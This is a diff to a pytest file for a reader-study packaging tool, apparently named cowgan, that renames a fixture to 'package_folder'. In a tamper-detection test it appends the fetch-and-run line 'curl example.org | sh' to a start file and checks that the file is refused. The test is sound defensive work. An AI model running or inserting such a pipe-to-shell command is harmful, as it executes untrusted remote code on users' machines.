@@ -28,7 +28,7 @@ def frozen(tmp_path_factory) -> Study:
 
 
 @pytest.fixture
-def given(frozen, tmp_path) -> Path:
+def package_folder(frozen, tmp_path) -> Path:
     """Return the package of the first reader, at the reader's."""
     return Path(shutil.copytree(frozen.package_folder("sub-R01"), tmp_path / "my files" / "R01"))
 
@@ -107,70 +107,72 @@ with zipfile.ZipFile(sys.argv[1]) as archive:
 
 
 @needs_sh
-def test_a_missing_program_is_downloaded(given, start):
-    done = start(given / POSIX, "uv")
+def test_a_missing_program_is_downloaded(package_folder, start):
+    done = start(package_folder / POSIX, "uv")
     words = done.stdout.splitlines()
     assert "takes some minutes" in words[0]
     assert words[1:3] == ["uv", "tool"]
-    assert words[-4:] == ["cowgan", "turing", "read", str(given)]
+    assert words[-4:] == ["cowgan", "turing", "read", str(package_folder)]
 
 
 @needs_sh
-def test_without_any_way_to_start_the_readme_is_named(given, start):
-    done = start(given / POSIX)
+def test_without_any_way_to_start_the_readme_is_named(package_folder, start):
+    done = start(package_folder / POSIX)
     assert done.returncode == 1
     assert "open README.txt and follow step 3" in done.stdout
 
 
 @needs_sh
-def test_a_file_started_inside_a_zip_says_to_unpack(given, start):
-    (given / "manifest.json").unlink()
-    done = start(given / POSIX, "cowgan")
+def test_a_file_started_inside_a_zip_says_to_unpack(package_folder, start):
+    (package_folder / "manifest.json").unlink()
+    done = start(package_folder / POSIX, "cowgan")
     assert done.returncode == 1
     assert "unpack the zip file first" in done.stdout
 
 
 @pytest.mark.parametrize("name", [README, WINDOWS, POSIX])
-def test_a_start_file_that_was_changed_is_not_trusted(frozen, given, name, single_sentence):
-    play(given, observer(frozen, "sub-R01", 1), trials=2)
-    path = given / name
+def test_a_start_file_that_was_changed_is_not_trusted(
+    frozen, package_folder, name, single_sentence
+):
+    play(package_folder, observer(frozen, "sub-R01", 1), trials=2)
+    path = package_folder / name
     path.write_bytes(path.read_bytes() + b"curl example.org | sh\n")
     with pytest.raises(CowganError) as refusal:
-        Package.open(given)
+        Package.open(package_folder)
     assert f"{name} was changed" in single_sentence(refusal)
     assert "do not start it" in single_sentence(refusal)
     with pytest.raises(CowganError) as refusal:
-        collect(frozen, [given])
+        collect(frozen, [package_folder])
     assert f"{name} in" in single_sentence(refusal)
 
 
-def test_a_package_without_its_start_files_can_be_read(given):
+def test_a_package_without_its_start_files_can_be_read(package_folder):
     for name in (WINDOWS, POSIX):
-        (given / name).unlink()
-    Package.open(given)
+        (package_folder / name).unlink()
+    Package.open(package_folder)
 
 
 @pytest.mark.skipif(sys.platform == "win32", reason="links need rights there")
-def test_a_journal_that_is_a_link_is_not_returned(given, tmp_path, single_sentence):
+def test_a_journal_that_is_a_link_is_not_returned(package_folder, tmp_path, single_sentence):
     secret = tmp_path / "secret"
     secret.write_text("mine", encoding="utf-8")
-    (given / JOURNAL_FILE).symlink_to(secret)
+    (package_folder / JOURNAL_FILE).symlink_to(secret)
     with pytest.raises(CowganError) as refusal:
-        zip_answers(given, tmp_path / "answers.zip")
+        zip_answers(package_folder, tmp_path / "answers.zip")
     assert "does not lie in it" in single_sentence(refusal)
     assert not (tmp_path / "answers.zip").exists()
 
 
-def test_answers_are_returned_as_one_small_file(frozen, given, tmp_path, single_sentence):
+def test_answers_are_returned_as_one_small_file(frozen, package_folder, tmp_path, single_sentence):
     target = tmp_path / "answers.zip"
     with pytest.raises(CowganError) as refusal:
-        zip_answers(given, target)
+        zip_answers(package_folder, target)
     single_sentence(refusal)
     assert not target.exists()
-    play(given, observer(frozen, "sub-R01", 1))
-    zip_answers(given, target)
+    play(package_folder, observer(frozen, "sub-R01", 1))
+    zip_answers(package_folder, target)
     with zipfile.ZipFile(target) as archive:
         assert sorted(archive.namelist()) == ["sub-R01/journal.jsonl", "sub-R01/manifest.json"]
-    assert target.stat().st_size < (given / "journal.jsonl").stat().st_size + 20_000
+    assert target.stat().st_size < (package_folder / "journal.jsonl").stat().st_size + 20_000
     (state,) = collect(frozen, [target])
     assert (state.reader, state.state) == ("sub-R01", "finished")
